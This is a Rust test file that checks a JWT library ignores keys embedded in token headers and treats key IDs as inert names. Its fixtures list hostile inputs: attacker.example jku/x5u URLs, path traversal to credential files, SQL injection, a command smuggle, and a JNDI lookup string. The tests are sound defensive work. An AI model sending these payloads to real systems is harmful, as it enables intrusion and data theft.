//! A key comes from its registration, never from the token (RFC 8725 section 3.10).

use authguard_token::{
    Algorithm, LoginAttempt, LoginIssuers, LoginRejected, MAX_KEY_ID_BYTES, Token, TokenError,
};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::signers::{ISSUER, MAX, NOW, PAYLOAD, Signer, all, of};

/// The members with which a token would bring its key along.
pub fn brought(signer: &Signer) -> Vec<(&'static str, Value)> {
    let published = |form: &str| {
        let found = signer.published.iter().find(|(name, _)| *name == form);
        found.map(|(_, bytes)| bytes.clone()).unwrap_or_default()
    };
    let jwk: Value = serde_json::from_slice(&published("JWK")).unwrap();
    vec![
        ("jwk", jwk.clone()),
        ("jwk", json!({"keys": [jwk]})),
        ("jwk", json!(jwk.to_string())),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jku", json!("file:///etc/passwd")),
        ("x5u", json!("https://attacker.example/cert.pem")),
        ("x5c", json!([STANDARD.encode(published("SPKI, DER"))])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ]
}

#[test]
fn a_key_in_the_header_is_never_used() {
    // Ed25519 and P-256, as an RSA key alone is longer than a header may be with its other forms.
    for algorithm in [Algorithm::EdDSA, Algorithm::ES256] {
        let (ours, attacker) = (of(algorithm), Signer::new(algorithm));
        for (name, value) in brought(&attacker) {
            let mut header = json!({"alg": algorithm.name(), "typ": "JWT"});
            header[name] = value;
            let forged = attacker.signed(header.to_string(), PAYLOAD);
            assert_eq!(
                ours.judge(&forged).err(),
                Some(TokenError::Signature),
                "{header}"
            );
            // The member is ignored, not understood: our own signature counts.
            let honest = ours.signed(header.to_string(), PAYLOAD);
            assert!(ours.judge(&honest).is_ok(), "{header}");
        }
    }
}

#[test]
fn a_secret_in_the_header_is_never_used() {
    for ours in all() {
        let attacker = Signer::new(Algorithm::HS256);
        let header = json!({"alg": ours.algorithm.name(), "jwk": {"kty": "oct", "k": "AAAA"}});
        let forged = attacker.signed(header.to_string(), PAYLOAD);
        assert_eq!(ours.judge(&forged).err(), Some(TokenError::Signature));
    }
}

const KEY_IDS: [&str; 14] = [
    "../../../../../../dev/null",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/passwd",
    "https://attacker.example/key",
    "' or 1=1 --",
    "' union select 'secret' --",
    "k-1'; drop table authguard.key; --",
    "$1",
    "%s%n",
    "|id",
    "${jndi:ldap://attacker.example}",
    "\u{202e}k-1",
    "",
];

/// `kid` is a name to look up, so it comes out as it was sent and changes nothing here.
#[test]
fn a_key_id_is_a_name_and_nothing_else() {
    for signer in all() {
        for key_id in KEY_IDS {
            let header = json!({"alg": signer.algorithm.name(), "kid": key_id}).to_string();
            let text = signer.signed(&header, PAYLOAD);
            let token = Token::parse(&text, MAX).unwrap();
            assert_eq!(token.key_id(), Some(key_id));
            assert!(signer.judge(&text).is_ok(), "{key_id}");
            let unsigned = text.rsplit_once('.').unwrap().0;
            let refused = signer.judge(&format!("{unsigned}.")).err();
            assert_eq!(refused, Some(TokenError::Signature), "{key_id}");
        }
    }
}

#[test]
fn a_key_id_is_one_string_of_bounded_length() {
    let signer = of(Algorithm::HS256);
    for bad in ["null", "0", "[\"k-1\"]", "{\"$ne\":\"\"}", "true"] {
        let header = format!(r#"{{"alg":"HS256","kid":{bad}}}"#);
        let refused = signer.judge(&signer.signed(header, PAYLOAD)).err();
        assert_eq!(refused, Some(TokenError::HeaderText("kid")), "{bad}");
    }
    for (length, expected) in [
        (MAX_KEY_ID_BYTES, None),
        (MAX_KEY_ID_BYTES + 1, Some(TokenError::KeyIdTooLong)),
    ] {
        // Two bytes a letter: it is bytes that are counted.
        let key_id = format!("{}{}", "é".repeat(length / 2), "k".repeat(length % 2));
        let header = json!({"alg": "HS256", "kid": key_id}).to_string();
        assert_eq!(
            signer.judge(&signer.signed(header, PAYLOAD)).err(),
            expected,
            "{length}"
        );
    }
}

#[test]
fn a_login_needs_one_key_of_that_name_and_algorithm() {
    let (one, two) = (of(Algorithm::EdDSA), Signer::new(Algorithm::EdDSA));
    let other = of(Algorithm::ES256);
    let login = |keys: &[(&Signer, &str)], signer: &Signer, kid: Option<&str>| {
        let jwk = |(signer, kid): &(&Signer, &str)| {
            let mut jwk: Value = serde_json::from_str(&signer.key.to_jwk().unwrap()).unwrap();
            jwk["kid"] = json!(kid);
            jwk
        };
        let document = json!({"issuers": [{
            "issuer": ISSUER, "audience": ["api"], "login_roles": {"web": {}},
            "jwks": {"keys": keys.iter().map(jwk).collect::<Vec<_>>()},
        }]});
        let mut header = json!({"alg": signer.algorithm.name()});
        if let Some(kid) = kid {
            header["kid"] = json!(kid);
        }
        let attempt = LoginAttempt {
            role: "web",
            now: NOW,
            leeway: 0,
            max_bytes: MAX,
        };
        let token = signer.signed(header.to_string(), PAYLOAD);
        let issuers = LoginIssuers::parse(&document.to_string()).unwrap();
        issuers.verify(&token, attempt)
    };
    let (good, alice) = ([(one, "a"), (other, "b")], Ok("alice".to_owned()));
    for (signer, kid) in [(one, "a"), (other, "b")] {
        assert_eq!(login(&good, signer, Some(kid)), alice);
        assert_eq!(login(&good, signer, None), alice);
    }
    let mismatch = LoginRejected::Token(TokenError::AlgorithmMismatch);
    assert_eq!(login(&good, one, Some("b")), Err(mismatch));
    assert_eq!(login(&good[1..], one, None), Err(LoginRejected::UnknownKey));
    let twins = [(one, "a"), (&two, "b")];
    for signer in [one, &two] {
        let refused = Err(LoginRejected::AmbiguousKey);
        assert_eq!(login(&twins, signer, None), refused);
    }
}
